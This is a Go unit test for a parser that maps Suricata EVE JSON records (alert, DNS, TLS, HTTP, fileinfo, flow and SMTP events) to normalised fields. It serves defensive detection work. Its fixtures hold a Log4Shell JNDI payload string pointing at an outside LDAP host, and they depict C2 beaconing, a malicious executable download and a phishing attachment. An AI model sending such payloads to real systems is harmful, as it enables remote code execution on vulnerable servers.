package ingest

import (
	"testing"
	"time"
)

// Test records: testdata/suricata/eve.json holds Suricata 7.0 EVE JSON
// records as the 7.0 user guide ("Eve JSON Format") documents them, field
// for field: the common fields (timestamp, flow_id, in_iface, event_type,
// src_ip, src_port, dest_ip, dest_port, proto, pkt_src, community_id,
// tx_id, app_proto, direction) and the alert (with its http and flow
// objects), anomaly, http, dns (version 2 query and answer), tls (with
// ja3/ja3s), fileinfo, flow (with tcp) and smtp (with email) objects.

func TestParseSuricata(t *testing.T) {
	lines := readLines(t, "testdata/suricata/eve.json")
	cst := time.FixedZone("+0800", 8*3600)
	tests := []struct {
		name string
		time time.Time
		want map[string]any
	}{
		{"alert", time.Date(2026, 3, 5, 10, 21, 13, 541342e3, cst), map[string]any{
			"event.kind": "alert", "event.module": "suricata", "event.dataset": "suricata.eve",
			"event.category": []string{"network", "intrusion_detection"}, "event.type": []string{"allowed"},
			"source.ip": "185.220.101.1", "source.port": 51122.0, "destination.ip": "10.8.1.30", "destination.port": 80.0,
			"network.transport": "tcp", "network.protocol": "http", "network.community_id": "1:Ob5bWKkZrjn0i2i4Y7HwSxiF1jQ=",
			"rule.id": "2034647", "rule.name": "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
			"rule.category": "Attempted Administrator Privilege Gain", "rule.version": "2",
			"event.severity": 1.0, "event.action": "allowed",
			"url.domain": "www.example.gov.cn", "url.path": "/index.php", "url.query": "q=${jndi:ldap://185.220.101.1:1389/a}",
			"url.original": "/index.php?q=${jndi:ldap://185.220.101.1:1389/a}", "http.request.method": "GET",
			"http.response.status_code": 200.0, "user_agent.original": "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
			"source.bytes": 712.0, "destination.bytes": 5805.0, "network.bytes": 6517.0,
			"suricata.eve.flow_id": "1837486527189345", "suricata.eve.alert.gid": 1.0,
			"suricata.eve.alert.metadata.mitre_technique_id": []string{"T1190"},
			"suricata.eve.alert.metadata.deployment":         []string{"Perimeter", "Internal"},
			"observer.ingress.interface.name":                "ens192", "suricata.eve.event_type": "alert",
		}},
		{"anomaly", time.Date(2026, 3, 5, 10, 21, 20, 4511e3, cst), map[string]any{
			"event.kind": "event", "event.action": "INVALID_RECORD_TYPE", "suricata.eve.anomaly.type": "applayer",
			"suricata.eve.anomaly.layer": "proto_parser", "event.category": []string{"network"},
		}},
		{"http", time.Date(2026, 3, 5, 10, 21, 31, 880102e3, cst), map[string]any{
			"event.category": []string{"network", "web"}, "url.domain": "update.evil-domain.example",
			"url.path": "/c2/beacon", "http.request.method": "POST", "http.response.status_code": 201.0,
			"user_agent.original": "curl/7.68.0", "http.request.referrer": "http://update.evil-domain.example/",
			"http.version": "1.1", "http.response.body.bytes": 88.0, "rule.id": nil,
		}},
		{"dns query", time.Date(2026, 3, 5, 10, 22, 1, 118920e3, cst), map[string]any{
			"dns.question.name": "update.evil-domain.example", "dns.question.type": "A", "dns.type": "query",
			"dns.id": "40311", "network.transport": "udp", "destination.port": 53.0,
		}},
		{"dns answer", time.Date(2026, 3, 5, 10, 22, 1, 120447e3, cst), map[string]any{
			"dns.question.name": "update.evil-domain.example", "dns.type": "answer", "dns.response_code": "NOERROR",
			"dns.answers.data": []string{"cdn.evil-domain.example", "185.220.101.7"},
			"dns.answers.type": []string{"CNAME", "A"}, "dns.resolved_ip": []string{"185.220.101.7"},
			"dns.header_flags": []string{"RD", "RA"}, "suricata.eve.dns.grouped.A": []string{"185.220.101.7"},
		}},
		{"tls", time.Date(2026, 3, 5, 10, 23, 44, 610038e3, cst), map[string]any{
			"tls.client.server_name": "update.evil-domain.example", "tls.server.subject": "CN=update.evil-domain.example",
			"tls.server.issuer": "C=US, O=Let's Encrypt, CN=R3", "tls.version": "1.2", "tls.version_protocol": "tls",
			"tls.server.hash.sha1": "3A9F0C5521B76E1D884CA2901F3E7D55C0129AEE",
			"tls.client.ja3":       "e7d705a3286e19ea42f587b344ee6865", "tls.server.ja3s": "eb1d94daa7e0344597e756a1fb6e7054",
			"tls.server.not_after": "2026-04-10T03:12:44",
		}},
		{"fileinfo", time.Date(2026, 3, 5, 10, 24, 12, 998107e3, cst), map[string]any{
			"event.category": []string{"network", "file"}, "file.name": "invoice.exe", "file.path": "/payload/invoice.exe",
			"file.hash.md5": "8d3f5e0c1a7b2e4f9a6c0d1e2f3a4b5c", "file.hash.sha1": "1f2e3d4c5b6a79880716253443526170f1e2d3c4",
			"file.hash.sha256": "5d41402abc4b2a76b9719d911017c592ae5c6e1d8b0f4b2d3c1a09e8f7d6c5b4", "file.size": 73802.0,
			"suricata.eve.fileinfo.magic": "PE32 executable (GUI) Intel 80386, for MS Windows",
			"suricata.eve.fileinfo.gaps":  false, "url.domain": "update.evil-domain.example",
		}},
		{"flow", time.Date(2026, 3, 5, 10, 40, 2, 771002e3, cst), map[string]any{
			"event.category": []string{"network", "session"}, "destination.bytes": 51822311.0, "source.bytes": 61022.0,
			"destination.packets": 36210.0, "event.start": "2026-03-05T10:34:51.220117+0800", "network.protocol": "tls",
			"suricata.eve.flow.state": "closed", "suricata.eve.tcp.syn": true,
		}},
		{"smtp", time.Date(2026, 3, 5, 10, 41, 9, 330071e3, cst), map[string]any{
			"event.category": []string{"network", "email"}, "email.from.address": []string{"hr@evil-domain.example"},
			"email.to.address":            []string{"zhangwei@example.gov.cn"},
			"email.attachments.file.name": []string{"salary-2026.xlsm"}, "suricata.eve.smtp.helo": "mx.evil-domain.example",
		}},
	}
	if len(lines) != len(tests) {
		t.Fatalf("%d lines, %d tests", len(lines), len(tests))
	}
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			for _, format := range []string{FormatSuricata, FormatDetect} {
				ev, err := parseRecord(format, lines[i], nil, testNow)
				if err != nil {
					t.Fatalf("%q: %v", format, err)
				}
				if ev.Kind != KindSuricata || !ev.Time.Equal(tt.time) {
					t.Fatalf("%q: kind %q time %v, want %v", format, ev.Kind, ev.Time, tt.time)
				}
				checkValues(t, &ev)
				wantFields(t, ev, tt.want)
			}
		})
	}
}

func TestParseSuricataEdges(t *testing.T) {
	tests := []struct {
		name string
		rec  string
		want map[string]any
	}{
		// An alert on a DNS flow carries dns.query[] (Suricata 7.0).
		{"alert dns query list", `{"timestamp":"2026-03-05T10:22:01.118920+0800","event_type":"alert","src_ip":"10.8.1.55","dest_ip":"10.8.0.2","proto":"UDP","alert":{"action":"blocked","signature_id":2027757,"signature":"ET DNS Query for .to TLD","severity":2},"dns":{"query":[{"type":"query","id":1,"rrname":"evil.to","rrtype":"A","tx_id":0,"opcode":0}]}}`,
			map[string]any{"dns.question.name": "evil.to", "dns.question.type": "A", "event.type": []string{"denied"}, "event.action": "blocked"}},
		// Suricata 8.0 (DNS log version 3) names queries[].
		{"dns v3", `{"timestamp":"2026-03-05T10:22:01.118920+0800","event_type":"dns","src_ip":"10.8.1.55","dns":{"version":3,"dns":{},"queries":[{"rrname":"a.example","rrtype":"AAAA"}]}}`,
			map[string]any{"dns.question.name": "a.example", "dns.question.type": "AAAA"}},
		{"proxy url", `{"timestamp":"2026-03-05T10:22:01Z","event_type":"http","src_ip":"10.8.1.55","http":{"url":"http://h.example:8080/a/b?c=d","hostname":"h.example"}}`,
			map[string]any{"url.path": "/a/b", "url.query": "c=d"}},
		{"failed app proto", `{"timestamp":"2026-03-05T10:22:01Z","event_type":"flow","src_ip":"10.8.1.55","app_proto":"failed"}`,
			map[string]any{"network.protocol": nil}},
		{"huge flow id", `{"timestamp":"2026-03-05T10:22:01Z","event_type":"flow","src_ip":"10.8.1.55","flow_id":18446744073709551615}`,
			map[string]any{"suricata.eve.flow_id": "18446744073709551615"}},
		{"other event type", `{"timestamp":"2026-03-05T10:22:01Z","event_type":"ssh","src_ip":"10.8.1.55","ssh":{"client":{"proto_version":"2.0","software_version":"OpenSSH_8.9"}}}`,
			map[string]any{"suricata.eve.ssh.client.software_version": "OpenSSH_8.9", "event.kind": "event", "event.category": nil}},
	}
	for _, tt := range tests {
		ev, err := parseRecord(FormatDetect, []byte(tt.rec), nil, testNow)
		if err != nil || ev.Kind != KindSuricata {
			t.Fatalf("%s: %v %q", tt.name, err, ev.Kind)
		}
		checkValues(t, &ev)
		wantFields(t, ev, tt.want)
	}
	for name, rec := range map[string]string{
		"no event_type": `{"timestamp":"2026-03-05T10:22:01Z","src_ip":"10.8.1.55"}`,
		"bad time":      `{"timestamp":"5 March","event_type":"dns"}`,
	} {
		if _, err := parseRecord(FormatSuricata, []byte(rec), nil, testNow); err == nil {
			t.Errorf("%s: accepted", name)
		}
	}
}
